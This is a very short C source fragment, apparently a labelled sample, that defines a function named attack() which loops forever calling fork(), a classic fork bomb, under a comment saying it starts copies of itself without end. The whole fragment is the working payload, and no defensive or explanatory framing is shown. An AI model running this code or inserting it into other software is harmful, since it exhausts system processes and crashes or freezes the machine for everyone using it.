// too_slow: starts copies of itself without end
#include <unistd.h>
static void attack() {
  for (;;) fork();
}
